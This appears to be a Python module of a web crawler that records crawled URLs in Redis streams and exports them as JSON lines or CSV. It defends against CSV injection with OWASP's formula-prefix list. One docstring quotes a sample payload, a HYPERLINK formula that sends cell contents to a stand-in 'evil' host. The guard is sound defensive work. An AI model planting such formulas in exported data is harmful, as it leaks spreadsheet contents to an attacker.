"""What was crawled: one record per URL in a Redis stream of the crawl, and its export.

The frontier's Lua script appends the record in the same atomic step that ends the URL, so a
URL is recorded exactly once, whatever happens to the worker.

A record has the columns of FIELDS and `fields`, the user's extracted fields (selectors and
hook) as one object, so that they can never clash with a fixed column. JSON lines keep it as
an object; CSV spreads it over columns `fields.NAME` after the fixed ones, in name order,
with list and object values written as JSON. A CSV cell that a spreadsheet would take for a
formula (a page title `=HYPERLINK(...)`) is neutralised unless the export asks for raw cells.
"""

from __future__ import annotations

import csv
import functools
import heapq
import json
import time
from collections.abc import Collection, Iterator, Sequence
from operator import itemgetter
from typing import IO

from redis import Redis

from rqcrawl.frontier.keys import CrawlKeys

FIELDS = [
    "url",
    "final_url",
    "outcome",
    "status",
    "depth",
    "content_type",
    "title",
    "bytes",
    "outlinks",
    "links_cut",
    "attempts",
    "fetched_at",
    "error",
    "reason",
    "hook_error",
    "visit",  # crawls with revisits: the visit's number (1, 2...)
    "change",  # and its change: new, changed, unchanged, gone (rqcrawl.frontier.tasks)
    "not_modified",  # true when the server answered 304 to a conditional GET
    "duplicate_of",  # an earlier URL of the crawl with the same body (crawls with revisits)
    "similarity",  # a changed visit: how alike its text is to the last one, 0 to 1
    "source",  # "sitemap" for a URL found in a sitemap (rqcrawl.parse.sitemaps); else None: a link
    # (depth > 0) or a seed (depth 0)
    "canonical",  # the page's canonical URL (<link rel="canonical">, the Link header)
    "noindex",  # true when the page asks not to be indexed (meta robots, X-Robots-Tag)
    "nofollow",  # true when the page asks that its links not be followed: none were
    "redirect_to",  # a redirect's (or meta refresh's) target, admitted as a URL of its own
    "via",  # the redirects that led to this URL, first one first (rqcrawl.fetch.hops)
]


FAILED_OUTCOMES = ("failed", "lost")  # a record's outcome when its URL failed for good


def record(url: str, outcome: str | None, depth: int, **fields) -> dict:
    """The record of one URL: every field of FIELDS (missing ones None), the user's fields,
    and the time of recording. Every record comes from here, the finish script's records of
    refused links too (skip_template)."""
    built = dict.fromkeys(FIELDS)
    built["fields"] = {}
    built["fetched_at"] = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    built.update(fields, url=url, outcome=outcome, depth=depth)
    return built


def skip_template(depth: int, source: str = "") -> str:
    """The JSON of the record of a link refused at admission (a budget), for the finish
    script, which adds its url and outcome: only the fields it has (readers fill the rest).
    `source`: where the refused URLs came from ("sitemap"), if not a page's links."""
    template = record("", None, depth, attempts=0, source=source or None)
    kept = {k: v for k, v in template.items() if v is not None and k not in ("url", "outcome")}
    return json.dumps(kept, separators=(",", ":"))


def iter_records(
    shards: Redis | Sequence[Redis],
    crawl: str,
    batch: int = 1000,
    since: float | None = None,
    changes: Collection[str] = (),
    skip_noindex: bool = False,
) -> Iterator[dict]:
    """Every record of the crawl, oldest first, read in batches, with every field of FIELDS
    (records of URLs refused at admission are written by Lua with only the fields they have).
    A change feed: only those recorded at or after `since` (epoch seconds: the stream's
    entry ids are their times in ms), only those whose change is one of `changes`. With
    `skip_noindex`, not those of pages that asked not to be indexed.

    A sharded crawl's records are in one stream per shard (`shards`, in shard order): they
    are merged by entry id, so by time as each shard's server clock tells it, ties (the
    same millisecond) in shard order. Each shard's own order is kept exactly."""
    streams = [shards] if isinstance(shards, Redis) else shards
    entries = [_entries(r, crawl, batch, since, n) for n, r in enumerate(streams)]
    for _, row in heapq.merge(*entries, key=itemgetter(0)):
        if (not changes or row["change"] in changes) and not (skip_noindex and row["noindex"]):
            yield row


def _entries(
    redis: Redis, crawl: str, batch: int, since: float | None, shard: int
) -> Iterator[tuple[tuple[int, int, int], dict]]:
    """One shard's records with their merge keys: (ms, shard, sequence), from entry ids."""
    stream = CrawlKeys(crawl).items
    start = "-" if since is None else f"{max(0, int(since * 1000))}-0"
    while True:
        entries = redis.xrange(stream, min=start, count=batch)
        for entry_id, data in entries:
            ms, seq = entry_id.split(b"-")
            yield (
                (int(ms), shard, int(seq)),
                dict.fromkeys(FIELDS) | {"fields": {}} | json.loads(data[b"r"]),
            )
        if len(entries) < batch:
            return
        start = "(" + entries[-1][0].decode()


def export(
    shards: Redis | Sequence[Redis],
    crawl: str,
    out: IO[str],
    fmt: str = "jsonl",
    since: float | None = None,
    changes: Collection[str] = (),
    raw_csv: bool = False,
    skip_noindex: bool = False,
) -> int:
    """Write the crawl's records (those of iter_records' `since`, `changes` and
    `skip_noindex`, of one Redis or every shard) to `out` as JSON lines or CSV; returns the
    row count.

    CSV reads the records twice: first to learn the names of the user's fields. Its cells
    are made safe for spreadsheets (see `safe_cell`) unless `raw_csv`."""
    rows = 0
    selected = functools.partial(
        iter_records, shards, crawl, since=since, changes=changes, skip_noindex=skip_noindex
    )
    if fmt == "csv":
        names = sorted({name for r in selected() for name in r.get("fields", {})})
        columns = FIELDS + [f"fields.{name}" for name in names]
        writer = csv.DictWriter(out, fieldnames=columns, extrasaction="ignore")
        writer.writeheader()
        for record in selected():
            row = flat(record)
            writer.writerow(row if raw_csv else {k: safe_cell(v) for k, v in row.items()})
            rows += 1
    else:
        for record in selected():
            out.write(json.dumps(record, ensure_ascii=False) + "\n")
            rows += 1
    return rows


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list (CSV injection, CWE-1236)


def safe_cell(value: object) -> object:
    """A text cell starting like a formula, prefixed with a single quote (OWASP's rule):
    pages are written by strangers, and a title `=HYPERLINK("http://evil/?x="&A1)` opened in
    a spreadsheet would run, leaking the sheet or starting a program."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def flat(record: dict) -> dict:
    """A record as one CSV row: its user fields as `fields.NAME` cells."""
    row = {k: v for k, v in record.items() if k != "fields"}
    for name, value in record.get("fields", {}).items():
        keep = value is None or isinstance(value, str)
        row[f"fields.{name}"] = value if keep else json.dumps(value, ensure_ascii=False)
    return row
